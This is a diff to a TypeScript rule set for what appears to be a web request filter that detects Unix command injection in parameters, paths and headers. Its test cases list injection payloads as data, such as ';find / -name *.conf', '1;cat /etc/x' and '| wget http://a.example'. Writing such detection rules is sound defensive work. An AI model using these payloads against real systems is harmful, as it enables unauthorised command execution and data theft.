@@ -1,5 +1,5 @@
 import type { Rule } from '../../rule.ts';
-import { early, oneLine, values } from '../words.ts';
+import { early, oneLine, parameters, values } from '../words.ts';
 import { plainPrograms, unixPrograms } from './programs.ts';
 
 const headers = ['headers', 'user_agent', 'referer'] as const;
@@ -9,7 +9,7 @@ const separator = String.raw`(?:[;|\r\n]|&{1,2}|\$\(|[<>]\(|\$\{\x60)`;
 const lead = String.raw`[\s"'({!@\\\x60]{0,6}(?:\$\w{1,10}=\S{0,40}\s+|(?:sudo|time|nohup|exec|command|env|nice|busybox|builtin|do|then|else|timeout\s+\d+\w?)\s+(?:-\S+\s+){0,2}){0,3}["']?`;
 const directory = String.raw`(?:[\w./~*?-]{0,60}/)?`;
 /** After a program whose name is a word: an argument as commands have them, or the end of the command. */
-const argument = String.raw`["']?(?:<{1,3}\s*[\w/"'$]|>{1,2}\s*[\w/&]|\s+(?:-{1,2}\w|[\w.-]*[/~$*\\]\S|["'<>]|\d+\s*(?:$|[;|&\x60)])|\.{1,2}(?:[;|&)\x60/]|$)|localhost\b|[\w-]+\.(?:php|txt|sh|py|pl|conf|ini|log|gz|zip|tar|jsp|aspx?|xml|ya?ml|json|db|sql|key|pem|bak)\b))`;
+const argument = String.raw`["']?(?:<{1,3}\s*[\w/"'$]|>{1,2}\s*[\w/&]|\s+(?:-{1,2}\w|[\w.-]*[/~$*\\]\S|["'<>]|\d+\s*(?:$|[;|&\x60)])|\d+\s+[-+*/]\s+\d|[/~.]\s+-\w|\.{1,2}(?:[;|&)\x60/]|$)|localhost\b|[\w-]+\.(?:php|txt|sh|py|pl|conf|ini|log|gz|zip|tar|jsp|aspx?|xml|ya?ml|json|db|sql|key|pem|bak)\b))`;
 /** The end of the command, or one last word: only where the separator stands close before it, as nobody writes it in a sentence. */
 const close = String.raw`["']?(?:\s*(?:$|[;|&<>\x60)#])|\s+[\w.-]+\s*(?:[;|&\x60)]|$))`;
 /** The name of a program ends here; what may follow is an argument, a quote, a redirection or another separator. */
@@ -63,7 +63,7 @@ export const unixCommandRules: readonly Rule[] = [
     severity: 'critical',
     paranoia: 1,
     stops: 'Commands whose names are words, after a separator and with arguments as commands have them, near the beginning of a value.',
-    in: values,
+    in: parameters,
     screen: 'separator',
     when: [
       {
@@ -86,6 +86,8 @@ export const unixCommandRules: readonly Rule[] = [
       '<(cat /x)',
       ';who',
       ';env --version',
+      ';find / -name *.conf',
+      'x;expr 1 + 1',
     ],
     good: [
       'fish | chips',
@@ -97,6 +99,36 @@ export const unixCommandRules: readonly Rule[] = [
       'salt & pepper',
       'Look | who is there',
       'R&D',
+    ],
+  },
+  {
+    id: 'command-appended-in-path',
+    family: 'command',
+    severity: 'critical',
+    paranoia: 1,
+    stops: 'Commands whose names are words, after a separator near the beginning of a segment of the path.',
+    in: ['path'],
+    screen: 'separator',
+    when: [
+      {
+        regex:
+          `^[\\w"'.-]{0,12}(?:[;|\\r\\n]|&&|\\$\\()\\s*${directory}${plainPrograms}${argument}${oneLine}|` +
+          String.raw`^["'\s\d]{0,6}(?:[;|\r\n]|&&)[;|&\s]*(?:id|ls|ps|env|pwd|df|set)["'\s;#]{0,3}$`,
+      },
+    ],
+    bad: [
+      { target: '/items/%3Bid' },
+      { target: '/items/||%20id' },
+      { target: '/items/1;cat%20%2Fetc%2Fx' },
+      { target: '/items/;ls%20-la' },
+    ],
+    good: [
+      { target: '/q&a/what-is-it' },
+      { target: '/q%26a/what' },
+      { target: '/blog/who-is-who;more' },
+      { target: '/list;id;sort=price' },
+      { target: '/app;jsessionid=0A1B' },
+      { target: '/news/cat%20%7C%20dog' },
     ],
   },
   {
@@ -241,7 +273,7 @@ export const unixCommandRules: readonly Rule[] = [
     when: [
       {
         regex:
-          String.raw`^["']{0,2}(?:[;|]|&&|\$\(|\x60)` +
+          String.raw`^["'\d]{0,4}(?:[;|&]{1,2}|\$\(|\x60)` +
           lead +
           directory +
           `(?:${unixPrograms}${done}|${plainPrograms}(?:${argument}|${close}))`,
@@ -251,6 +283,9 @@ export const unixCommandRules: readonly Rule[] = [
       { headers: { referer: ';env' } },
       { headers: { 'user-agent': ';set' } },
       { headers: { 'x-a': '| wget http://a.example' } },
+      { headers: { 'x-a': '|| id' } },
+      { headers: { 'x-a': '1|nslookup a.example' } },
+      { headers: { 'user-agent': '& whoami' } },
       { headers: { 'user-agent': ';`cat<<< ifconfig`' } },
     ],
     good: [{ headers: { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:1.0)' } }, { headers: { accept: '*/*;q=0.8' } }],
